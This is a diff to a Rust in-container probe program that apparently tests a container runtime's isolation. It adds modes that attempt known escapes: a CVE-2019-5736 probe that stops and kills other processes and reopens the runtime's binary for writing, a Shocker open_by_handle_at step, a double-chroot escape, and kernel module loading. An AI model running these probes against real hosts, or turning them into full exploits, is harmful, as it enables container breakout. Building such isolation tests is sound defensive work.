@@ -2,7 +2,7 @@
 //! like from within, as one JSON document. It only observes; the tests decide what is right.
 
 use std::collections::BTreeMap;
-use std::os::unix::fs::{FileTypeExt, MetadataExt};
+use std::os::unix::fs::{FileTypeExt, MetadataExt, OpenOptionsExt};
 
 use serde_json::{json, Value};
 
@@ -130,6 +130,13 @@ fn main() {
         tiocsti(args.get(2).map(String::as_str).unwrap_or(""));
         return;
     }
+    match args.get(1).map(String::as_str) {
+        Some("--exe-attack") => return exe_attack(args.get(2).and_then(|n| n.parse().ok()).expect("--exe-attack SECONDS")),
+        Some("--shocker") => return shocker(),
+        Some("--chroot-escape") => return chroot_escape(args.get(2).expect("--chroot-escape HOST_PATH")),
+        Some("--load-module") => return load_module(),
+        _ => {}
+    }
     if args.get(1).map(String::as_str) == Some("--alloc") {
         alloc(args.get(2).and_then(|n| n.parse().ok()).expect("--alloc MiB"));
         return;
@@ -164,4 +171,104 @@ fn main() {
         "cgroupfs": cgroupfs(),
     });
     println!("{}", serde_json::to_string_pretty(&report).expect("json serialises"));
+}
+
+/// errno of the last failed call, as a name.
+fn errno_name(e: nix::Error) -> String {
+    format!("{e:?}")
+}
+
+/// CVE-2019-5736 from inside: watch for processes running a binary that is not ours (the
+/// runtime's, during `exec`), stop them, keep an O_PATH handle of their executable, kill
+/// them, then try to open that executable for writing. Never writes: opening is the proof.
+fn exe_attack(seconds: u64) {
+    use std::os::fd::AsRawFd;
+    let me = std::process::id().to_string();
+    let own = std::fs::metadata("/proc/self/exe").map(|m| (m.dev(), m.ino())).ok();
+    let end = std::time::Instant::now() + std::time::Duration::from_secs(seconds);
+    let mut handles: Vec<(String, std::fs::File)> = Vec::new();
+    let mut seen = BTreeMap::new();
+    let mut results: BTreeMap<String, String> = BTreeMap::new();
+    while std::time::Instant::now() < end {
+        for e in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
+            let pid = e.file_name().to_string_lossy().into_owned();
+            if pid == me || !pid.bytes().all(|b| b.is_ascii_digit()) || pid == "1" {
+                continue;
+            }
+            let exe = format!("/proc/{pid}/exe");
+            let Ok(target) = std::fs::read_link(&exe) else { continue };
+            let target = target.display().to_string();
+            // The container's own programs (busybox, the shell) are no prize.
+            if target.contains("busybox") || target.starts_with("/bin/") {
+                continue;
+            }
+            let _ = nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid.parse().unwrap_or(0)), nix::sys::signal::Signal::SIGSTOP);
+            match std::fs::OpenOptions::new().custom_flags(libc::O_PATH).read(true).open(&exe) {
+                Ok(f) => {
+                    let id = f.metadata().map(|m| (m.dev(), m.ino())).ok();
+                    if id != own && !seen.contains_key(&target) {
+                        seen.insert(target.clone(), pid.clone());
+                        handles.push((target.clone(), f));
+                    }
+                }
+                Err(e) => {
+                    results.entry(format!("{target} (pid {pid}, /proc/PID/exe)")).or_insert_with(|| e.to_string());
+                }
+            }
+            let _ = nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid.parse().unwrap_or(0)), nix::sys::signal::Signal::SIGKILL);
+        }
+        // Once the holder is gone the binary is no longer busy: reopen it for writing.
+        for (target, f) in &handles {
+            let path = format!("/proc/self/fd/{}", f.as_raw_fd());
+            let r = std::fs::OpenOptions::new().write(true).open(&path);
+            let outcome = match r {
+                Ok(_) => "OPENED FOR WRITING".to_owned(),
+                Err(e) => e.to_string(),
+            };
+            if outcome != "Text file busy (os error 26)" {
+                results.insert(target.clone(), outcome);
+            }
+        }
+        std::thread::sleep(std::time::Duration::from_micros(200));
+    }
+    println!("{}", json!({ "seen": seen, "results": results }));
+}
+
+/// The Shocker exploit's first step: open a host inode (2, the root of most filesystems)
+/// by handle.
+fn shocker() {
+    let root = std::fs::File::open("/").expect("open /");
+    let out = match sysctr::sys::syscalls::open_by_inode_handle(std::os::fd::AsFd::as_fd(&root)) {
+        Ok(_) => "OPENED".to_owned(),
+        Err(e) => errno_name(e),
+    };
+    println!("{}", json!({ "open_by_handle_at": out }));
+}
+
+/// The double-chroot escape: chroot into a subdirectory, walk up past it, chroot there.
+/// Reports whether `host_path` (a path only the host has) became visible.
+fn chroot_escape(host_path: &str) {
+    let _ = std::fs::create_dir_all("/tmp/jail");
+    let steps = (|| -> nix::Result<()> {
+        nix::unistd::chroot("/tmp/jail")?;
+        for _ in 0..64 {
+            nix::unistd::chdir("..")?;
+        }
+        nix::unistd::chroot(".")
+    })();
+    println!(
+        "{}",
+        json!({
+            "steps": steps.map(|()| "ok".to_owned()).unwrap_or_else(errno_name),
+            "host_path_visible": std::path::Path::new(host_path).exists(),
+        })
+    );
+}
+
+/// Loading a kernel module, both ways.
+fn load_module() {
+    let f = std::fs::File::open("/proc/self/exe").expect("open self");
+    let (finit, init) = sysctr::sys::syscalls::load_module(std::os::fd::AsFd::as_fd(&f));
+    let show = |r: nix::Result<()>| r.map(|()| "LOADED".to_owned()).unwrap_or_else(errno_name);
+    println!("{}", json!({ "finit_module": show(finit), "init_module": show(init) }));
 }
